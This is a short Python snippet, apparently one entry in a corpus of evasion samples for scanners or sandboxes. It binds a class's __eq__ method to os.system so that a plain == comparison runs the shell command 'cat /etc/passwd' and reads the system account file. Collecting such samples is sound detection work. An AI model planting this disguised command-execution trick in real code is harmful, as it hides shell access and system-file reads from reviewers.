# corpus: __eq__ bound to os.system via staticmethod, triggered by == comparison
import os

class Cmp:
    __eq__ = staticmethod(os.system)

Cmp() == "cat /etc/passwd"
